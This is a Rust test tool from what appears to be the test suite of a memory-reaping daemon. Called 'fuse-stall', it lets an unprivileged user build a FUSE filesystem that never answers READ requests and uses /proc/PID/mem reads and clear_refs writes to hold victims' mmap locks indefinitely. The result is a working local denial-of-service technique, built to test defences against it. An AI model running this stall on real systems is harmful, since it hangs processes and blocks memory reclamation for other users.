// SPDX-License-Identifier: MIT OR Apache-2.0
//! `fuse-stall FUSE_DEVICE MOUNTDIR COUNT`: COUNT processes whose reap
//! never ends, made by an unprivileged user (docs/threats.md, "A reap that
//! never ends"; the kernel-level reproducer is
//! tests/repro/inplace_mmap_lock_hold.c).
//!
//! Run it as the attacker's uid, with no capability. It makes a user and
//! mount namespace of its own (so it may mount FUSE), opens FUSE_DEVICE (a
//! node of /dev/fuse the attacker may open, as distributions ship it, mode
//! 0666) and mounts on MOUNTDIR a filesystem whose files `f0`… it serves
//! itself, answering every request except READ. Then, per victim `i`:
//! - the victim maps `fi` (never touching it) and waits;
//! - a reader (same uid) preads `/proc/VICTIM/mem` at that mapping: the
//!   fault sends a READ that is never answered, and the reader keeps the
//!   victim's mmap read lock while it waits;
//! - a writer writes `5` to `/proc/VICTIM/clear_refs`, which queues for the
//!   write lock (seen in state D): from then on every new reader of the
//!   lock, `process_mrelease(2)` of the killed victim included, waits.
//!
//! Prints `victim PID reader PID writer PID` per victim, then `server PID`,
//! `conn N` (the FUSE connection: `/sys/fs/fuse/connections/N/abort` ends
//! every wait) and `ready`. Prints `SKIP: reason` and exits 77 when a
//! precondition (user namespaces, FUSE) is missing.

use std::io::{Read, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

use reapd_e2e::fuse::{self, Files};

/// Each file's size: one mapping of it per victim.
const FILE_BYTES: u64 = 1 << 20;

fn skip(reason: &str) -> ! {
    println!("SKIP: {reason}");
    std::process::exit(77);
}

fn fail(what: &str) -> ! {
    eprintln!("fuse-stall: {what}: {}", std::io::Error::last_os_error());
    std::process::exit(1);
}

/// Serves the filesystem (files `f0`… are nodes 2…, owned by the
/// namespace's root, the attacker); tells `reads` the node of each READ it
/// leaves unanswered.
fn serve(dev: std::fs::File, mut reads: std::fs::File) -> ! {
    let files = Files {
        size: FILE_BYTES,
        uid: 0,
    };
    let mut buf = vec![0u8; (1 << 20) + 4096];
    while let Some(request) = fuse::next_request(&dev, &mut buf) {
        match request.opcode {
            fuse::LOOKUP => {
                let index = std::str::from_utf8(fuse::lookup_name(&request))
                    .ok()
                    .and_then(|n| n.strip_prefix('f'))
                    .and_then(|i| i.parse::<u64>().ok());
                match index {
                    Some(i) => fuse::reply_entry(&dev, request.unique, 2 + i, files),
                    None => fuse::reply(&dev, request.unique, -libc::ENOENT, &[]),
                }
            }
            // The point of this filesystem: the faulting reader waits
            // forever, holding its victim's mmap lock.
            fuse::READ => {
                let _ = reads.write_all(&request.nodeid.to_ne_bytes());
            }
            _ => fuse::answer(&dev, &request, files),
        }
    }
    std::process::exit(0)
}

fn pipe() -> (std::fs::File, std::fs::File) {
    let mut fds = [0; 2];
    // SAFETY: pipe fills two fds we then own.
    if unsafe { libc::pipe(fds.as_mut_ptr()) } != 0 {
        fail("pipe");
    }
    // SAFETY: fresh fds from pipe(2), owned once each.
    unsafe {
        (
            std::fs::File::from(OwnedFd::from_raw_fd(fds[0])),
            std::fs::File::from(OwnedFd::from_raw_fd(fds[1])),
        )
    }
}

/// Forks; the child runs `child` and exits.
fn fork(child: impl FnOnce()) -> i32 {
    // SAFETY: this process has one thread; the child only makes syscalls.
    let pid = unsafe { libc::fork() };
    if pid < 0 {
        fail("fork");
    }
    if pid == 0 {
        child();
        std::process::exit(0);
    }
    pid
}

fn pause_forever() -> ! {
    loop {
        // SAFETY: pause has no arguments.
        unsafe { libc::pause() };
    }
}

/// The scheduler state of every thread of `pid` (`/proc/PID/task/*/stat`).
fn thread_states(pid: i32) -> Vec<char> {
    let Ok(tasks) = std::fs::read_dir(format!("/proc/{pid}/task")) else {
        return Vec::new();
    };
    tasks
        .flatten()
        .filter_map(|t| std::fs::read_to_string(t.path().join("stat")).ok())
        .filter_map(|stat| stat.rsplit_once(") ").and_then(|(_, rest)| rest.chars().next()))
        .collect()
}

fn write_file(path: &str, text: &str) -> std::io::Result<()> {
    std::fs::OpenOptions::new()
        .write(true)
        .open(path)?
        .write_all(text.as_bytes())
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.len() != 4 {
        eprintln!("usage: fuse-stall FUSE_DEVICE MOUNTDIR COUNT");
        std::process::exit(2);
    }
    let (device, mountdir) = (&args[1], &args[2]);
    let count: u64 = args[3].parse().expect("count");
    // SAFETY: getuid/getgid have no arguments.
    let (uid, gid) = unsafe { (libc::getuid(), libc::getgid()) };
    // SAFETY: unshare with constant flags, single-threaded.
    if unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) } != 0 {
        skip(&format!(
            "unshare(CLONE_NEWUSER|CLONE_NEWNS) as uid {uid}: {}",
            std::io::Error::last_os_error()
        ));
    }
    for (file, text) in [
        ("/proc/self/setgroups", "deny".to_string()),
        ("/proc/self/uid_map", format!("0 {uid} 1")),
        ("/proc/self/gid_map", format!("0 {gid} 1")),
    ] {
        if let Err(err) = write_file(file, &text) {
            skip(&format!("{file}: {err}"));
        }
    }
    if let Err(err) = fuse::make_mounts_private() {
        skip(&format!("making / private: {err}"));
    }
    // Opened inside the namespace: FUSE accepts only a device opened by
    // the mount's own user namespace.
    let dev = match std::fs::OpenOptions::new().read(true).write(true).open(device) {
        Ok(dev) => dev,
        Err(err) => skip(&format!("cannot open {device} as uid {uid}: {err}")),
    };
    if let Err(err) = fuse::mount(&dev, mountdir, "reapd-stall", 0) {
        skip(&format!("mount -t fuse in a user namespace: {err}"));
    }
    let (mut reads, reads_tx) = pipe();
    let server = fork(|| serve(dev.try_clone().unwrap(), reads_tx.try_clone().unwrap()));
    // Only the server holds the device: when it dies, the connection is
    // aborted and every wait ends.
    drop(dev);
    drop(reads_tx);

    // After the fork: the stat is answered by the server.
    let st_dev = match std::fs::metadata(mountdir) {
        Ok(meta) => std::os::unix::fs::MetadataExt::dev(&meta),
        Err(err) => {
            eprintln!("fuse-stall: stat {mountdir}: {err}");
            std::process::exit(1);
        }
    };
    // The kernel's dev_t, as /sys/fs/fuse/connections names it.
    let conn = (u64::from(libc::major(st_dev)) << 20) | u64::from(libc::minor(st_dev));

    let mut stdout = std::io::stdout();
    for i in 0..count {
        let (mut addr_rx, mut addr_tx) = pipe();
        let file = format!("{mountdir}/f{i}");
        let victim = fork(move || {
            let f = std::fs::File::open(&file).unwrap_or_else(|_| fail("open on the FUSE mount"));
            // SAFETY: a fresh read-only private mapping of our open file.
            let map = unsafe {
                libc::mmap(
                    std::ptr::null_mut(),
                    FILE_BYTES as usize,
                    libc::PROT_READ,
                    libc::MAP_PRIVATE,
                    f.as_raw_fd(),
                    0,
                )
            };
            if map == libc::MAP_FAILED {
                fail("mmap");
            }
            let _ = addr_tx.write_all(&(map as u64).to_ne_bytes());
            pause_forever();
        });
        let mut addr = [0u8; 8];
        if addr_rx.read_exact(&mut addr).is_err() {
            eprintln!("fuse-stall: victim {i} did not map its file");
            std::process::exit(1);
        }
        let addr = u64::from_ne_bytes(addr);
        let reader = fork(move || {
            let mem = std::fs::File::open(format!("/proc/{victim}/mem")).unwrap_or_else(|_| fail("open mem"));
            let mut byte = [0u8; 1];
            let _ = std::os::unix::fs::FileExt::read_at(&mem, &mut byte, addr);
        });
        // The reader holds the lock once its READ reached the server.
        let mut node = [0u8; 8];
        loop {
            if reads.read_exact(&mut node).is_err() {
                eprintln!("fuse-stall: the server is gone");
                std::process::exit(1);
            }
            if u64::from_ne_bytes(node) == 2 + i {
                break;
            }
        }
        let writer = fork(move || {
            let _ = write_file(&format!("/proc/{victim}/clear_refs"), "5");
        });
        let deadline = Instant::now() + Duration::from_secs(10);
        while !thread_states(writer).contains(&'D') {
            if Instant::now() > deadline {
                eprintln!("fuse-stall: the clear_refs writer never queued for victim {victim}'s mmap lock");
                std::process::exit(1);
            }
            std::thread::sleep(Duration::from_millis(5));
        }
        let _ = writeln!(stdout, "victim {victim} reader {reader} writer {writer}");
    }
    let _ = writeln!(stdout, "server {server}");
    let _ = writeln!(stdout, "conn {conn}");
    let _ = writeln!(stdout, "ready");
    let _ = stdout.flush();
    pause_forever();
}
